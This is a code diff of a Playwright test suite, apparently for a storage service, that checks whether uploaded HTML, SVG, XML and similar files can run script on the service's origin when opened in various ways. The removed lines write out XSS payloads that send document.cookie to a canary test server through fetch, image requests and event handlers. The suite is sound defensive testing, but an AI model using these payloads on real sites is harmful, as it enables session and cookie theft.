@@ -1,162 +1,196 @@
 // Abuse cases A02 to A04: stored objects are on our origin, and must never act there.
 import { createBucket, presignGetObject, putObject } from '@stowage/storage-client';
-import type { Page } from '@playwright/test';
+import type { BrowserContext, Page } from '@playwright/test';
 
 import { startCanary, type Canary } from '../support/canary.ts';
+import { enter } from '../support/enter.ts';
+import { hostileFiles, type HostileFile } from '../support/hostile-files.ts';
+import { hostileTricks, type Trick } from '../support/hostile-tricks.ts';
 import { signUpPerson, type Person } from '../support/person.ts';
+import { startPlainHost } from '../support/plain-host.ts';
 import { expect, test } from '../support/test.ts';
+import { waysToOpen, type WayToOpen } from '../support/ways-to-open.ts';
 
 const bucket = 'hostile';
+/** Scripts that run report within a few milliseconds, workers some later. */
+const settleMs = 1_000;
 
-/** What each file would do if it could: say so to the canary, with our cookie. */
-function attack(canary: string): string {
-  return `fetch('${canary}/ran?'+document.cookie);new Image().src='${canary}/ran?'+document.cookie;`;
-}
+// A trace of this many requests takes longer than the requests.
+test.use({ trace: 'off' });
 
-function hostileFiles(canary: string): { name: string; type: string | undefined; body: string; override?: string }[] {
-  const script = attack(canary);
-  const html = `<!doctype html><script>${script}</script><img src="${canary}/img" onerror="${script}"><form action="${canary}/form"><input autofocus onfocus="${script}"></form>`;
-  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${canary}/svg"/></svg>`;
-  return [
-    { name: 'page.html', type: 'text/html', body: html },
-    {
-      name: 'page.xhtml',
-      type: 'application/xhtml+xml',
-      body: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
-    },
-    { name: 'picture.svg', type: 'image/svg+xml', body: svg },
-    {
-      name: 'feed.xml',
-      type: 'text/xml',
-      body: `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`,
-    },
-    {
-      name: 'style.xml',
-      type: 'application/xml',
-      body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/xslt"?><a/>`,
-    },
-    { name: 'saved.mhtml', type: 'multipart/related', body: `MIME-Version: 1.0\nContent-Type: text/html\n\n${html}` },
-    { name: 'sniff.txt', type: 'text/plain', body: html },
-    { name: 'sniff.png', type: 'image/png', body: html },
-    { name: 'no-type', type: undefined, body: html },
-    { name: 'odd-type', type: 'text/html; charset=utf-7', body: html },
-    { name: 'code.js', type: 'text/javascript', body: script },
-    { name: 'override.bin', type: 'application/octet-stream', body: html, override: 'text/html' },
-    { name: 'paint.css', type: 'text/css', body: `@import url(${canary}/css); body{background:url(${canary}/bg)}` },
-  ];
-}
+/** Which of the guards of our pages stand. What is left must hold by itself. */
+const guards = ['every guard', 'no Trusted Types', 'no policy of the page'] as const;
+type Guards = (typeof guards)[number];
 
-const waysToOpen = {
-  tab: async (page: Page, url: string) => {
-    // A download makes the navigation fail, which is the point.
-    await page.goto(url).catch(() => undefined);
-  },
-  iframe: (page: Page, url: string) => insert(page, 'iframe', 'src', url),
-  object: (page: Page, url: string) => insert(page, 'object', 'data', url),
-  embed: (page: Page, url: string) => insert(page, 'embed', 'src', url),
-  script: (page: Page, url: string) => insert(page, 'script', 'src', url),
-  stylesheet: (page: Page, url: string) => insert(page, 'link', 'href', url),
-  module: async (page: Page, url: string) => {
-    await page.evaluate((address) => import(address).catch(() => undefined), url);
-  },
-  worker: async (page: Page, url: string) => {
-    await page.evaluate((address) => {
-      try {
-        void new Worker(address);
-      } catch {
-        // Refused at once by the content security policy.
-      }
-    }, url);
-  },
-  'service worker': async (page: Page, url: string) => {
-    await page.evaluate(
-      (address) =>
-        navigator.serviceWorker.register(address).then(
-          () => undefined,
-          () => undefined,
-        ),
-      url,
-    );
-  },
-} satisfies Record<string, (page: Page, url: string) => Promise<void>>;
+let person: Person;
+let canary: Canary;
+let files: HostileFile[];
+/** Addresses of the files through the gateway, as a presigned link names them. */
+let addresses: string[];
 
-async function insert(page: Page, tag: string, attribute: string, url: string): Promise<void> {
-  await page.evaluate(
-    async ({ tag, attribute, url }) => {
-      const element = document.createElement(tag);
-      if (tag === 'link') element.setAttribute('rel', 'stylesheet');
-      try {
-        element.setAttribute(attribute, url);
-      } catch {
-        return; // Trusted Types refused the address.
-      }
-      const settled = new Promise((resolve) => {
-        for (const event of ['load', 'error']) element.addEventListener(event, resolve);
-        setTimeout(resolve, 300);
-      });
-      document.body.append(element);
-      await settled;
-      element.remove();
-    },
-    { tag, attribute, url },
-  );
-}
-
-test.describe('a stored object', () => {
-  let person: Person;
-  let canary: Canary;
-
-  test.beforeAll(async ({ stowage }) => {
-    person = await signUpPerson(stowage);
-    canary = await startCanary();
-    await createBucket(person.s3, { Bucket: bucket });
-    for (const file of hostileFiles(canary.url)) {
-      await putObject(person.s3, {
-        Bucket: bucket,
-        Key: file.name,
-        Body: new Blob([file.body]),
-        ...(file.type === undefined ? {} : { ContentType: file.type }),
-      });
-    }
-  });
-
-  test.afterAll(async () => {
-    await canary.stop();
-  });
-
-  for (const guard of ['with the policy of our pages', 'by the gateway alone'] as const) {
-    for (const [way, open] of Object.entries(waysToOpen)) {
-      test(`never acts when opened as ${way}, ${guard}`, async ({ browser, stowage }) => {
-        // Without the page's policy only what the gateway refuses and how it labels its answers is left.
-        const context = await browser.newContext({ bypassCSP: guard === 'by the gateway alone', baseURL: stowage.url });
-        await context.addCookies([{ name: 'token', value: 'the-secret-token', url: stowage.url, sameSite: 'Strict' }]);
-        const page = await context.newPage();
-        canary.heard.length = 0;
-        let dialogs = 0;
-        page.on('dialog', (dialog) => {
-          dialogs += 1;
-          void dialog.dismiss();
-        });
-
-        for (const file of hostileFiles(canary.url)) {
-          const direct = new URL(
-            await presignGetObject(person.s3, {
-              Bucket: bucket,
-              Key: file.name,
-              ...(file.override === undefined ? {} : { ResponseContentType: file.override }),
-              expiresInSeconds: 60,
-            }),
-          );
-          await page.goto('/sign-in');
-          await open(page, `/storage${direct.pathname}${direct.search}`);
-        }
-        await page.waitForTimeout(200);
-
-        expect(canary.heard).toEqual([]);
-        expect(dialogs).toBe(0);
-        expect(context.serviceWorkers()).toEqual([]);
-        await context.close();
-      });
-    }
-  }
+test.beforeAll(async ({ stowage }) => {
+  person = await signUpPerson(stowage);
+  canary = await startCanary();
+  files = hostileFiles(canary.url);
+  await createBucket(person.s3, { Bucket: bucket });
+  addresses = await Promise.all(files.map(store));
 });
+
+test.afterAll(async () => {
+  await canary.stop();
+});
+
+async function store(file: HostileFile): Promise<string> {
+  await putObject(person.s3, {
+    Bucket: bucket,
+    Key: file.name,
+    Body: new Blob([file.body]),
+    ...(file.type === undefined ? {} : { ContentType: file.type }),
+  });
+  const direct = new URL(
+    await presignGetObject(person.s3, {
+      Bucket: bucket,
+      Key: file.name,
+      ...(file.override === undefined ? {} : { ResponseContentType: file.override }),
+      expiresInSeconds: 600,
+    }),
+  );
+  return `/storage${direct.pathname}${direct.search}`;
+}
+
+/** A page of ours with the guards that are left, and a session cookie that scripts can read. */
+async function openPage(context: BrowserContext, path: string, left: Guards): Promise<Page> {
+  const page = await context.newPage();
+  if (left === 'no Trusted Types') {
+    await page.route(
+      (url) => url.pathname === path,
+      async (route) => {
+        const response = await route.fetch();
+        const policy = response.headers()['content-security-policy'] ?? '';
+        const weaker = policy.replace(/; require-trusted-types-for [^;]*; trusted-types [^;]*$/u, '');
+        expect(weaker).not.toBe(policy);
+        await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': weaker } });
+      },
+    );
+  }
+  await page.goto(path);
+  await page.waitForLoadState('networkidle');
+  return page;
+}
+
+/** Plays every trick at once and answers with those that the canary heard of. */
+async function reportsOfTricks(page: Page): Promise<string[]> {
+  canary.heard.length = 0;
+  const names = Object.keys(hostileTricks);
+  await Promise.all(
+    Object.values<Trick>(hostileTricks).map((trick, index) =>
+      page.evaluate(trick, `${canary.url}/${index}`).catch(() => undefined),
+    ),
+  );
+  await page.waitForTimeout(settleMs);
+  const heard = new Set(canary.heard.splice(0).map((line) => Number(/\/(\d+)\??$/u.exec(line)?.[1])));
+  return names.filter((_, index) => heard.has(index));
+}
+
+/** Code that runs but may not send anything out still says so to the console. */
+function hearConsole(context: BrowserContext): void {
+  context.on('console', (message) => {
+    if (message.text().startsWith('ran ')) canary.heard.push(message.text());
+  });
+}
+
+test('the files act in every way when a careless server hands them out', async ({ browser }) => {
+  const host = await startPlainHost(files);
+  const context = await browser.newContext();
+  hearConsole(context);
+  const page = await context.newPage();
+  const urls = files.map((file) => `${host.url}/${file.name}`);
+  for (const [way, open] of Object.entries(waysToOpen)) {
+    await page.goto(host.url);
+    canary.heard.length = 0;
+    await open(page, urls);
+    await expect.poll(() => canary.heard.length, `opened as ${way}`).toBeGreaterThan(0);
+  }
+  await context.close();
+  await host.stop();
+});
+
+for (const left of guards) {
+  test(`no object acts in any way of opening it, with ${left}`, async ({ browser, stowage }) => {
+    // Without the policy of the page only what the gateway refuses and how it labels its answers is left.
+    const context = await browser.newContext({
+      bypassCSP: left === 'no policy of the page',
+      baseURL: stowage.url,
+      acceptDownloads: false,
+    });
+    hearConsole(context);
+    await context.addCookies([{ name: 'token', value: 'the-secret-token', url: stowage.url, sameSite: 'Strict' }]);
+    const page = await openPage(context, '/sign-in', left);
+
+    canary.heard.length = 0;
+    for (const [way, open] of Object.entries<WayToOpen>(waysToOpen)) {
+      await open(page, addresses);
+      expect(canary.heard, `after ${way}`).toEqual([]);
+    }
+    await page.waitForTimeout(settleMs);
+    expect(canary.heard).toEqual([]);
+
+    expect(context.serviceWorkers()).toEqual([]);
+    expect(new URL(page.url()).pathname, 'an object was shown in place of the page').toBe('/sign-in');
+    // The files were there to be had: a fetch, which cannot act, gets every byte.
+    const bodies = await page.evaluate(
+      (list) => Promise.all(list.map(async (address) => (await fetch(address)).text())),
+      addresses,
+    );
+    expect(bodies).toEqual(files.map((file) => file.body));
+    await context.close();
+  });
+}
+
+test('the tricks work on a page without a policy', async ({ browser }) => {
+  const host = await startPlainHost([]);
+  const page = await browser.newPage();
+  await page.goto(host.url);
+  expect(await reportsOfTricks(page)).toEqual(Object.keys(hostileTricks));
+  await page.close();
+  await host.stop();
+});
+
+for (const left of ['every guard', 'no Trusted Types'] as const) {
+  test(`nothing fetched becomes code of the signed-in page, with ${left}`, async ({ browser, stowage }) => {
+    const context = await browser.newContext({ baseURL: stowage.url, acceptDownloads: false });
+    hearConsole(context);
+    await enter(context, stowage, person);
+    const refusals: string[] = [];
+    context.on('console', (message) => {
+      if (message.text().includes('Content Security Policy')) refusals.push(message.text());
+    });
+    const page = await openPage(context, '/buckets', left);
+    await expect(page.getByRole('link', { name: bucket, exact: true })).toBeVisible();
+    expect(refusals, 'the console itself keeps to its policy').toEqual([]);
+
+    expect(await reportsOfTricks(page)).toEqual([]);
+    expect(context.serviceWorkers()).toEqual([]);
+    expect(refusals).not.toEqual([]);
+
+    await expect(page.getByRole('link', { name: bucket, exact: true }), 'the page still stands').toBeVisible();
+    const loaded = await page.evaluate(async () => {
+      const own = performance.getEntriesByType('resource').map((entry) => new URL(entry.name).pathname);
+      const script = own.find((path) => /^\/assets\/.*\.js$/u.test(path)) ?? '';
+      const sheet = own.find((path) => /^\/assets\/.*\.css$/u.test(path)) ?? '';
+      await import(`${script}?again`);
+      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${sheet}?again` });
+      document.head.append(link);
+      await new Promise((resolve, reject) => {
+        link.addEventListener('load', resolve);
+        link.addEventListener('error', () => reject(new Error('The stylesheet was refused.')));
+      });
+      return { script, sheet };
+    });
+    expect(loaded, 'what the console is made of may load').toEqual({
+      script: expect.stringContaining('.js'),
+      sheet: expect.stringContaining('.css'),
+    });
+    await context.close();
+  });
+}
